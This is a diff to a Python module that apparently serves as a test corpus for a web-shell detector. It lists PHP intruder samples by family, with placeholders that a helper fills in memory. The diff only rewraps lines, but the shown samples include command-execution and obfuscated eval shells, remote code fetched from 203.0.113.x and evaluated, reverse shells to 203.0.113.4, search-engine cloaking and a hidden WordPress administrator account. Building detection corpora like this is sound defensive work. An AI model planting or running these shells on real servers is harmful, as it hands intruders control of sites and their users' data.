@@ -1,7 +1,7 @@
 """What intruders leave, by family, as it is known from public descriptions: none of it runs.
 
-Each stands with placeholders where a word of PHP's would run something, and for the brackets that would call it. Only a measurement or a test puts these words in, in memory;
-nothing writes one of them to a disk.
+Each stands with placeholders where a word of PHP's would run something, and for the brackets that would call it. Only a
+measurement or a test puts these words in, in memory; nothing writes one of them to a disk.
 """
 
 from __future__ import annotations
@@ -45,7 +45,8 @@ FAMILIES: Mapping[str, tuple[str, ...]] = {
         "<?php @§E§«§POST§['a']);",
         "<?php §A§«§ANY§['x']);",
         "<?= §E§«§GET§[1]) ?>",
-        "<?php if«isset«§POST§['p']) && md5«§POST§['p'])=='5f4dcc3b5aa765d61d8327deb882cf99'){ @§E§«base64_decode«§POST§['z'])); }",
+        "<?php if«isset«§POST§['p']) && md5«§POST§['p'])=='5f4dcc3b5aa765d61d8327deb882cf99'){ "
+        "@§E§«base64_decode«§POST§['z'])); }",
         "GIF89a<?php §E§«stripslashes«§ANY§['q']));?>",
         "<script language=\"php\">@§E§«§POST§['v']);</script>",
         "<?php\n/* Plugin Name: Hello */\n$k = §COOKIE§['k'];\nif «$k) { @§E§«$k); }\n",
@@ -59,9 +60,11 @@ FAMILIES: Mapping[str, tuple[str, ...]] = {
         "<?php echo `{§GET§['x']}`;",
         "<?php $p = §O§«§POST§['c'], 'r'); while«!feof«$p)) echo fgets«$p); pclose«$p);",
         "<?php §X§«§SERVER§['HTTP_X_CMD'], $o); print join«\"\\n\", $o);",
-        "<?php $d=array«array«'pipe','r'),array«'pipe','w')); $h=proc_open«§POST§['c'],$d,$pp); echo stream_get_contents«$pp[1]);",
+        "<?php $d=array«array«'pipe','r'),array«'pipe','w')); $h=proc_open«§POST§['c'],$d,$pp); echo "
+        "stream_get_contents«$pp[1]);",
         "<?php if«§GET§['k']==='x'){ §P§«base64_decode«§GET§['c'])); }",
-        "<?php function run«$c){ if«function_exists«'§X§')) { §X§«$c,$r); return join«$r); } return §H§«$c); } echo run«§POST§['c']);",
+        "<?php function run«$c){ if«function_exists«'§X§')) { §X§«$c,$r); return join«$r); } return §H§«$c); } echo "
+        "run«§POST§['c']);",
     ),
     "chosen calls": (
         "<?php §GET§['a']«§GET§['b']);",
@@ -74,7 +77,8 @@ FAMILIES: Mapping[str, tuple[str, ...]] = {
         "<?php $x = §COOKIE§; $x[1]«$x[2], $x[3]);",
         "<?php $o = §ANY§['o']; $m = new $o«§ANY§['a'], §ANY§['b']);",
         "<?php ob_start«§GET§['f']); echo §GET§['x']; ob_end_flush«);",
-        "<?php @array_diff_ukey«@array««string)§ANY§['p']=>1), @array««string)stripslashes«§ANY§['c'])=>2), §ANY§['f']);",
+        "<?php @array_diff_ukey«@array««string)§ANY§['p']=>1), @array««string)stripslashes«§ANY§['c'])=>2), "
+        "§ANY§['f']);",
     ),
     "callbacks by name": (
         "<?php array_map«'§A§', «array)§POST§['x']);",
@@ -107,11 +111,14 @@ FAMILIES: Mapping[str, tuple[str, ...]] = {
         '<?php $f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f(${"\\x5f\\x47\\x45\\x54"}[\'a\']);',
         "<?php $_ = '_'·'PO'·'ST'; $g = 'as'·'sert'; $g«${$_}['z']);",
         "<?php $a = «'!'⌃'@').'ss'·'er'·'t'; $a«§POST§['x']);",
-        "<?php $_=«'\x01'⌃'`')·«'\x13'⌃'`')·«'\x13'⌃'`')·«'\x05'⌃'`')·«'\x12'⌃'`')·«'\x14'⌃'`'); $__='_'.«'\x0d'⌃']')·«'\x2f'⌃'`')·«'\x0e'⌃']')·«'\x09'⌃']'); $___=$$__; $_«$___[_]);",
-        "<?php $_=[]; $_=@\"$_\"; $_=$_['!'=='@']; $___=$_; $__=$_; $__++;$__++; $___.=$__; $____='_'·'POST'; $____=$$____; $___«$____[_]);",
+        "<?php $_=«'\x01'⌃'`')·«'\x13'⌃'`')·«'\x13'⌃'`')·«'\x05'⌃'`')·«'\x12'⌃'`')·«'\x14'⌃'`'); "
+        "$__='_'.«'\x0d'⌃']')·«'\x2f'⌃'`')·«'\x0e'⌃']')·«'\x09'⌃']'); $___=$$__; $_«$___[_]);",
+        "<?php $_=[]; $_=@\"$_\"; $_=$_['!'=='@']; $___=$_; $__=$_; $__++;$__++; $___.=$__; $____='_'·'POST'; "
+        "$____=$$____; $___«$____[_]);",
         "<?php $GLOBALS['_79']=array«'s'·'ys','te'·'m'); $q=$GLOBALS['_79'][0].$GLOBALS['_79'][1]; $q«§ANY§['w']);",
         "<?php $a=implode«'',array«'a','s','s','e','r','t')); $a«§POST§['i']);",
-        "<?php class K { public $n; function __construct«$p){ $this->n = $p; } function go«$x){ $m = $this->n; $m«$x); } } $k = new K«'sy'·'stem'); $k->go«§GET§['a']);",
+        "<?php class K { public $n; function __construct«$p){ $this->n = $p; } function go«$x){ $m = $this->n; "
+        "$m«$x); } } $k = new K«'sy'·'stem'); $k->go«§GET§['a']);",
         "<?php define«'Q', 'sys'·'tem'); $f = constant«'Q'); $f«§POST§['a']);",
         "<?php $f = sprintf«'%s%s','pass','thru'); $f«§GET§['s']);",
         "<?php $v = pack«'H*','73797374656d'); $v«§ANY§['h']);",
@@ -126,7 +133,8 @@ FAMILIES: Mapping[str, tuple[str, ...]] = {
         "<?php §E§«'?>'.gzuncompress«base64_decode«'{zlib}')));",
         "<?php $d = strrev«'{reversed}'); §E§«$d);",
         "<?php $x = '{hex}'; $y = ''; for «$i=0;$i<strlen«$x);$i+=2) $y .= chr«hexdec«substr«$x,$i,2))); §E§«$y);",
-        "<?php function d«$s,$k){ $o=''; for«$i=0;$i<strlen«$s);$i++) $o .= chr«ord«$s[$i]) ⌃ ord«$k[$i % strlen«$k)])); return $o; } §E§«d«base64_decode«'{long}'),'key'));",
+        "<?php function d«$s,$k){ $o=''; for«$i=0;$i<strlen«$s);$i++) $o .= chr«ord«$s[$i]) ⌃ ord«$k[$i % "
+        "strlen«$k)])); return $o; } §E§«d«base64_decode«'{long}'),'key'));",
         "<?php $f = §C§«'', gzinflate«base64_decode«'{deflated}'))); $f«);",
         "<?php $a='base'·'64_decode'; $b='gzin'·'flate'; §E§«$b«$a«'{deflated}')));",
         "<?php $O00O = urldecode«'%6E1%7A'); $OO0 = base64_decode«'{base64}'); §E§«$OO0);",
@@ -136,7 +144,8 @@ FAMILIES: Mapping[str, tuple[str, ...]] = {
         "<?php §E§«file_get_contents«'http://203.0.113.9/a.txt'));",
         "<?php §I§ 'data://text/plain;base64,{base64}';",
         "<?php §I§«§GET§['page']);",
-        "<?php $c = curl_init«'https://203.0.113.7/x'); curl_setopt«$c, CURLOPT_RETURNTRANSFER, 1); $r = curl_exec«$c); §E§«'?>'.$r);",
+        "<?php $c = curl_init«'https://203.0.113.7/x'); curl_setopt«$c, CURLOPT_RETURNTRANSFER, 1); $r = "
+        "curl_exec«$c); §E§«'?>'.$r);",
         '<?php @§I§ "\\x2fhome\\x2fu\\x2f\\x66avicon_1.ico";',
         "<?php §I§ '§INPUT§';",
         "<?php §E§«file_get_contents«'§INPUT§'));",
@@ -151,17 +160,20 @@ FAMILIES: Mapping[str, tuple[str, ...]] = {
         "<?php §W§«'x.php', §POST§['c']);",
         "<?php §W§«§POST§['f'], §POST§['c']);",
         "<?php $h = fopen«'inc.php','w'); fwrite«$h, stripslashes«§ANY§['t'])); fclose«$h);",
-        "<?php if«§M§«§FILES§['f']['tmp_name'], './'.§FILES§['f']['name'])) echo 'ok'; else echo '<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>';",
+        "<?php if«§M§«§FILES§['f']['tmp_name'], './'.§FILES§['f']['name'])) echo 'ok'; else echo '<form method=post "
+        "enctype=multipart/form-data><input type=file name=f><input type=submit></form>';",
         "<?php copy«§FILES§['u']['tmp_name'], §FILES§['u']['name']);",
         "<?php $p = §POST§['path']; $d = base64_decode«§POST§['data']); §W§«$p, $d);",
         "<?php §W§«'.htaccess', base64_decode«'{base64}')); §W§«'shell.php', base64_decode«'{base64}'));",
-        "<form method=post enctype='multipart/form-data'><input type=file name=a></form><?php @§M§«§FILES§['a']['tmp_name'], §FILES§['a']['name']);",
+        "<form method=post enctype='multipart/form-data'><input type=file name=a></form><?php "
+        "@§M§«§FILES§['a']['tmp_name'], §FILES§['a']['name']);",
     ),
     "variables of a visitor's": (
         "<?php extract«§ANY§); @$a«$b);",
         "<?php foreach «§POST§ as $k => $v) { $$k = $v; } §E§«$code);",
         "<?php parse_str«§SERVER§['QUERY_STRING'], $q); §E§«$q['x']);",
-        "<?php @parse_str«§SERVER§['HTTP_REFERER'], $a); if«reset«$a)=='10' && count«$a)==9) { §E§«base64_decode«str_replace«' ','+',join«array_slice«$a,count«$a)-3))))); }",
+        "<?php @parse_str«§SERVER§['HTTP_REFERER'], $a); if«reset«$a)=='10' && count«$a)==9) { "
+        "§E§«base64_decode«str_replace«' ','+',join«array_slice«$a,count«$a)-3))))); }",
         "<?php import_request_variables«'gp'); $a«$b);",
         "<?php $x = get_defined_vars«); $y = current«$x['_GET']); $y«next«$x['_GET']));",
         "<?php $n = 'x'; $$n = §ANY§['w']; §S§«$x);",
@@ -171,7 +183,8 @@ FAMILIES: Mapping[str, tuple[str, ...]] = {
         "<?php class B { static function r«$x) { return §A§«$x); } } B::r«§ANY§['x']);",
         "<?php class C { function __call«$n, $a) { $n«$a[0]); } } $n = §GET§['n']; $n«§GET§['a']);",
         "<?php class D { private $k = '§S§'; function go«) { return «$this->k)«§POST§['z']); } } «new D)->go«);",
-        "<?php interface I {} class E implements I { function run«$v) { return `$v`; } } $e = new E; echo $e->run«§COOKIE§['v']);",
+        "<?php interface I {} class E implements I { function run«$v) { return `$v`; } } $e = new E; echo "
+        "$e->run«§COOKIE§['v']);",
     ),
     "disguise": (
         "\\x89PNG\\r\\n<?php @§E§«§POST§['i']); ?>",
@@ -184,18 +197,26 @@ FAMILIES: Mapping[str, tuple[str, ...]] = {
         "<?php $x = <<<'Q'\n§POST§\nQ;\n$c = \"retu\".\"rn §S§«§GET§['l']);\"; §E§«$c);",
     ),
     "interfaces": (
-        "<?php session_start«); set_time_limit«0); error_reporting«0); echo php_uname«); echo ini_get«'disable_functions'); echo getmyuid«);"
-        " if«isset«§POST§['cmd'])) echo '<textarea>'.§H§«§POST§['cmd']).'</textarea>'; if«isset«§FILES§['f'])) §M§«§FILES§['f']['tmp_name'],"
-        " §POST§['d'].'/'.§FILES§['f']['name']); if«isset«§GET§['rm'])) unlink«§GET§['rm']); if«isset«§POST§['perm'])) chmod«§GET§['n'],"
-        " octdec«§POST§['perm'])); function x«$p){ return fileperms«$p); } if«isset«§POST§['s'])) { $h=fopen«§GET§['e'],'w'); fwrite«$h,§POST§['s']); } echo '<input name=cmd>';",
-        "<?php $ip='203.0.113.4'; $port=4444; $sock=fsockopen«$ip,$port); $proc=proc_open«'/bin/sh -i', array«0=>$sock,1=>$sock,2=>$sock), $pipes);",
+        "<?php session_start«); set_time_limit«0); error_reporting«0); echo php_uname«); echo "
+        "ini_get«'disable_functions'); echo getmyuid«);"
+        " if«isset«§POST§['cmd'])) echo '<textarea>'.§H§«§POST§['cmd']).'</textarea>'; if«isset«§FILES§['f'])) "
+        "§M§«§FILES§['f']['tmp_name'],"
+        " §POST§['d'].'/'.§FILES§['f']['name']); if«isset«§GET§['rm'])) unlink«§GET§['rm']); "
+        "if«isset«§POST§['perm'])) chmod«§GET§['n'],"
+        " octdec«§POST§['perm'])); function x«$p){ return fileperms«$p); } if«isset«§POST§['s'])) { "
+        "$h=fopen«§GET§['e'],'w'); fwrite«$h,§POST§['s']); } echo '<input name=cmd>';",
+        "<?php $ip='203.0.113.4'; $port=4444; $sock=fsockopen«$ip,$port); $proc=proc_open«'/bin/sh -i', "
+        "array«0=>$sock,1=>$sock,2=>$sock), $pipes);",
         "<?php §X§«\"/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.4/443 0>&1'\");",
-        "<?php $d = isset«§GET§['d']) ? §GET§['d'] : getcwd«); foreach «scandir«$d) as $f) echo $f; if «isset«§POST§['w'])) §W§«$d.'/'.§POST§['n'], §POST§['w']);"
+        "<?php $d = isset«§GET§['d']) ? §GET§['d'] : getcwd«); foreach «scandir«$d) as $f) echo $f; if "
+        "«isset«§POST§['w'])) §W§«$d.'/'.§POST§['n'], §POST§['w']);"
         " if«isset«§GET§['x'])) { echo §H§«§GET§['x']); }",
     ),
     "cloaking and accounts": (
-        "<?php $u = strtolower«§SERVER§['HTTP_USER_AGENT']); if «preg_match«'/googlebot|bingbot|coccocbot/', $u)) { echo file_get_contents«'http://203.0.113.8/slot.php?h='.§SERVER§['HTTP_HOST']); exit; }",
-        "<?php if «!username_exists«'wpsupp')) { $i = wp_create_user«'wpsupp', 'x', 'a@b.c'); $u = new WP_User«$i); $u->set_role«'administrator'); } add_action«'pre_user_query', 'h');",
+        "<?php $u = strtolower«§SERVER§['HTTP_USER_AGENT']); if «preg_match«'/googlebot|bingbot|coccocbot/', $u)) { "
+        "echo file_get_contents«'http://203.0.113.8/slot.php?h='.§SERVER§['HTTP_HOST']); exit; }",
+        "<?php if «!username_exists«'wpsupp')) { $i = wp_create_user«'wpsupp', 'x', 'a@b.c'); $u = new WP_User«$i); "
+        "$u->set_role«'administrator'); } add_action«'pre_user_query', 'h');",
         "<?php $q = §ANY§['u']; wp_set_auth_cookie«§ANY§['u']);",
     ),
 }
@@ -205,7 +226,7 @@ _INNER = "§E§«§POST§['x']);"
 
 
 def all_of_them() -> Iterator[tuple[str, bytes]]:
-    """Each with a path of its family and a name that it could have, whole."""
+    """Yield each with a path of its family and a name that it could have, whole."""
     inner = whole(_INNER) + " " * 10
     packed = {
         "{deflated}": base64.b64encode(zlib.compress(inner.encode())[2:-4]).decode(),
@@ -233,7 +254,7 @@ def _templates() -> Iterator[tuple[str, str]]:
 
 
 def whole(template: str) -> str:
-    """A template with words in the place of its placeholders."""
+    """Return a template with words in the place of its placeholders."""
     for placeholder, word in _WORDS.items():
         template = template.replace(placeholder, word)
     return template
